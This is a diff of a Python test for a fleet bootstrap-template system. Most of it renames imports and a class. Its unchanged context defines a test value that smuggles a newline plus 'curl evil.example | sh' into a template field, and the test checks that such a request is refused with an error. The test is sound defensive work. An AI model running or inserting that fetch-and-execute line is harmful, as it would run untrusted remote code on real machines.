@@ -14,9 +14,9 @@ from bigfleet.edge.counts import Counts
 from bigfleet.edge.logs import Silence
 from bigfleet.model.requirements import Operator, Requirement
 from bigfleet.model.session_frames import BootstrapRequest
-from bigfleet.operator.bootstrap.rendering import ClusterFacts
+from bigfleet.operator.bootstrap.renderer import ClusterFacts
 from bigfleet.operator.bootstrap.templates import BadTemplate, RequirementWords, Template, Values
-from bigfleet.operator.driving.bootstrapping import Bootstrapping, TemplateFile
+from bigfleet.operator.driving.bootstrap_requests import BootstrapRequests, TemplateFile
 
 SHELL = "a3\ncurl evil.example | sh"
 ALL = (
@@ -108,7 +108,9 @@ async def test_a_shard_that_asks_for_such_a_machine_gets_an_error_and_no_blob(
     file.write_text(ALL)
     facts, counts = ClusterFacts("shop", "https://api:6443", b""), Counts()
     log = Silence()
-    bootstrapping = Bootstrapping(TemplateFile(str(file), log), facts, ManualClock(), log, counts)
+    bootstrapping = BootstrapRequests(
+        TemplateFile(str(file), log), facts, ManualClock(), log, counts
+    )
     answer = await bootstrapping.answer(BootstrapRequest(request_id, "shop", (requirement,)))
     assert answer.user_data == b""
     assert place in answer.error
